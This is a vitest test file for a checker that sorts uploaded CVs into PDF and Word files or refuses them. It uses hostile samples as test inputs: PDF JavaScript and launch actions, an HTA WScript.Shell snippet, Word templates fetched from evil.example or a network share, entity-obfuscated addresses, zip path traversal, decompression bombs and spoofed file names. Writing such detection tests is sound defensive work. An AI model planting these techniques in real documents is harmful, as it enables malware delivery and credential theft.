import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { aDoc, aDocx, aPdf, aZip, contentTypes, wordDocument } from '#tests/factories/a-document.ts';
import { stopwatch } from '#tests/support/stopwatch.ts';
import { hasMatchingName } from './document-checker.ts';
import { readDocumentType } from './read-document-type.ts';

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'documents-test-'));
});
afterAll(() => rm(folder, { recursive: true, force: true }));

async function read(bytes: Buffer | string) {
  const file = join(folder, crypto.randomUUID());
  await writeFile(file, bytes);
  return readDocumentType(file);
}

/** Most programs of today write objects so: compressed in a stream. */
function compressed(objects: string): (string | Buffer)[] {
  const data = deflateSync(objects);
  const dictionary = `<</Type/ObjStm/N 1/First 5/Filter/FlateDecode/Length ${data.length}>>`;
  return [`9 0 obj\n${dictionary}\nstream\n`, data, '\nendstream\nendobj\n'];
}

type Make = () => Buffer | string | Promise<Buffer>;

const script = '<</S/JavaScript/JS(app.alert(1))>>';
const template = (target: string) => ({
  name: 'word/_rels/settings.xml.rels',
  content: `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`,
});
const link = {
  name: 'word/_rels/document.xml.rels',
  content:
    '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.com/asha" TargetMode="External"/></Relationships>',
};

test.each([
  ['a page that a browser printed', 'pdf', () => readFile('tests/documents/chromium-print.pdf')],
  ['a plain PDF', 'pdf', () => aPdf()],
  ['a PDF with line ends after its end', 'pdf', () => Buffer.concat([aPdf(), Buffer.from('\r\n\r\n')])],
  ['a PDF whose objects are compressed', 'pdf', () => aPdf(5_000, compressed('1 0 <</Type/Catalog>>'))],
  ['a PDF that opens at its first page', 'pdf', () => aPdf(5_000, ['8 0 obj\n<</OpenAction[3 0 R/Fit]>>\nendobj\n'])],
  ['a PDF that links to a site', 'pdf', () => aPdf(5_000, ['8 0 obj\n<</S/URI/URI(https://a.example)>>\nendobj\n'])],
  ['a Word file', 'docx', () => aDocx()],
  [
    'a Word file with a link, and a template on the own disk',
    'docx',
    () => aDocx([link, template('file:///C:\\CV.dotx')]),
  ],
  [
    'a Word file with the settings of a printer',
    'docx',
    () => aDocx([{ name: 'word/printerSettings1.bin', content: 'x' }]),
  ],
  ['an old Word file', 'doc', () => aDoc()],
  ['an old Word file of few words, as LibreOffice writes it', 'doc', () => readFile('tests/documents/libreoffice.doc')],
] as [string, string, Make][])('%s is taken as %s', async (_, type, make) => {
  expect(await read(await make())).toBe(type);
});

const hta = '<hta:application id=x><script>new ActiveXObject("WScript.Shell")</script>';

test.each([
  ['a program for Windows that begins like a PDF', 'active', () => `%PDF-1.7\n${hta}`],
  ['a script that begins like a PDF', 'damaged', () => '%PDF-1.7\n<script>alert(1)</script>'],
  ['a whole PDF with a program for Windows in it', 'active', () => aPdf(5_000, [hta])],
  ['a whole PDF with a page in it', 'active', () => aPdf(5_000, ['<html><body onload=alert(1)>'])],
  ['a PDF with something after its end', 'damaged', () => Buffer.concat([aPdf(), aZip([wordDocument])])],
  ['a PDF with something before its beginning', 'wrong-type', () => Buffer.concat([Buffer.from('MZ'), aPdf()])],
  ['half a PDF', 'damaged', () => aPdf().subarray(0, 10_000)],
  ['a PDF with a script', 'active', () => aPdf(5_000, [`8 0 obj\n${script}\nendobj\n`])],
  ['a PDF with a script under another spelling', 'active', () => aPdf(5_000, [script.replace('JavaS', '#4Aava#53')])],
  ['a PDF with a compressed script', 'active', () => aPdf(5_000, compressed(script))],
  [
    'a PDF with a compressed script of which nothing says so',
    'active',
    () =>
      aPdf(
        5_000,
        compressed(script).map((part) => (typeof part === 'string' ? part.replace('ObjStm', 'Obj#53tm') : part)),
      ),
  ],
  [
    'a PDF with a compressed script whose filter is spelled otherwise',
    'damaged',
    () =>
      aPdf(
        5_000,
        compressed(script).map((part) => (typeof part === 'string' ? part.replace('/Filter', '/#46ilter') : part)),
      ),
  ],
  ['a PDF that starts a program', 'active', () => aPdf(5_000, ['8 0 obj\n<</S/Launch/F(calc.exe)>>\nendobj\n'])],
  ['a PDF with a file within', 'active', () => aPdf(5_000, ['8 0 obj\n<</Type/EmbeddedFile>>\nendobj\n'])],
  ['a PDF with a password', 'locked', () => aPdf(5_000, ['8 0 obj\n<</Encrypt 9 0 R>>\nendobj\n'])],
  ['a PDF that inflates without end', 'damaged', () => aPdf(5_000, compressed('x'.repeat(9_000_000)))],
  ['a Word file with macros', 'active', () => aDocx([{ name: 'word/vbaProject.bin', content: 'x' }])],
  [
    'a Word file whose type has macros',
    'active',
    () => aZip([contentTypes('application/vnd.ms-word.document.macroEnabled.main+xml'), wordDocument]),
  ],
  [
    'a Word file with a program within',
    'active',
    () => aDocx([{ name: 'word/embeddings/oleObject1.bin', content: 'x' }]),
  ],
  ['a Word file that fetches its template', 'active', () => aDocx([template('https://evil.example/a.dotm')])],
  [
    'a Word file that fetches its template from a neighbour',
    'active',
    () => aDocx([template('\\\\evil\\share\\a.dotm')]),
  ],
  [
    'a Word file that fetches its template from an address in references',
    'damaged',
    () => aDocx([template('&#104;ttps://evil.example/a.dotm')]),
  ],
  [
    'a Word file that fetches its template from an address with a name of its own',
    'damaged',
    () =>
      aDocx([
        {
          ...template('&x;'),
          content: `<!DOCTYPE a [<!ENTITY x "https://evil.example/a.dotm">]>${template('&x;').content}`,
        },
      ]),
  ],
  [
    'a Word file that fetches a picture from a neighbour, and tells it who reads',
    'active',
    () =>
      aDocx(
        [template('\\\\evil\\share\\a.png')].map((part) => ({
          ...part,
          content: part.content.replace('attachedTemplate', 'image'),
        })),
      ),
  ],
  ['an archive with a path out of it', 'damaged', () => aDocx([{ name: '../../evil', content: 'x' }])],
  ['an archive with the same name twice', 'damaged', () => aDocx([wordDocument])],
  [
    'an archive that unpacks to more than a CV',
    'damaged',
    () => aDocx([{ name: 'a', content: 'x', says: 3_000_000_000 }]),
  ],
  ['an archive with something in its comment', 'damaged', () => aZip([contentTypes(), wordDocument], hta.slice(4))],
  ['an archive of another kind', 'wrong-type', () => aZip([{ name: 'evil.txt', content: 'MZ' }])],
  ['an archive that names no document', 'wrong-type', () => aZip([contentTypes(), { name: 'a.xml', content: '' }])],
  ['the beginning of an archive', 'damaged', () => aDocx().subarray(0, 200)],
  ['an old Word file with macros', 'active', () => aDoc(['_VBA_PROJECT'])],
  ['an old Word file with a file within', 'active', () => aDoc(['\u0001Ole10Native'])],
  ['an old Word file with a password', 'locked', () => aDoc([], 0x0100)],
  ['a new Word file with a password', 'locked', () => aDoc(['EncryptedPackage'])],
  ['the beginning of an old Word file', 'damaged', () => aDoc().subarray(0, 1_200)],
  [
    'an old file of another program',
    'wrong-type',
    () => {
      const book = aDoc();
      book.write('Workbook\0\0\0\0', 512 * 2 + 128, 'utf16le');
      return book;
    },
  ],
  ['a text', 'wrong-type', () => 'I cook.'],
  ['a program', 'wrong-type', () => 'MZ'],
] as [string, string, Make][])('%s is refused: %s', async (_, problem, make) => {
  expect(await read(await make())).toEqual({ problem });
});

test('sectors that lead into a circle, or anywhere, end the reading of an old Word file', async () => {
  const passed = stopwatch();
  const found = new Set<string>();
  for (let at = 44; at < 1024; at += 4)
    for (const sector of [1, 0x7fffffff]) {
      const wrong = aDoc();
      wrong.writeUInt32LE(sector, at);
      found.add(JSON.stringify(await read(wrong)));
    }
  expect(found).toContain(JSON.stringify({ problem: 'damaged' }));
  expect(passed()).toBeLessThan(5_000);
});

test('a PDF made to be slow to look at is looked at within a second', async () => {
  const most = 5 * 1024 * 1024;
  const parts = ['stream\n', '/ObjStm ', '<', '/Type/ObjStm>>stream\n', '#4', '/Filter ', 'startxref '];
  for (const part of [...parts, '(', ' obj(', '0 obj<<>>stream\n']) {
    const passed = stopwatch();
    await read(aPdf(most, [part.repeat(Math.floor((most - 2_000) / part.length))]));
    expect(passed(), part).toBeLessThan(1_000);
  }
});

test('a name says what its content is in its last extension, or nothing at all', () => {
  for (const name of [
    'cv.pdf',
    'CV.PDF',
    'Asha K. Sharma.pdf',
    'CV.docx.pdf',
    'cv.pdf.',
    'cv.pdf ',
    'C:\\CVs\\cv.pdf',
    'cv',
    'आशा.pdf',
  ])
    expect(hasMatchingName('pdf', name), name).toBe(true);
  for (const name of [
    'CV.hta',
    'cv.html',
    'cv.lnk',
    'invoice.pdf.exe',
    'cv.docx',
    'cv\u202efdp.exe',
    'cv\u202e.pdf',
    'cv.exe.',
    'cv.e\u200bxe',
    'cv.pdf:a.exe',
  ])
    expect(hasMatchingName('pdf', name), name).toBe(false);
});

test('a Word file may have the extension of Word’s other kind, and no third', () => {
  for (const type of ['doc', 'docx'] as const)
    expect(['cv.doc', 'cv.DOCX', 'cv.docm', 'cv.pdf'].map((name) => hasMatchingName(type, name))).toEqual([
      true,
      true,
      false,
      false,
    ]);
});
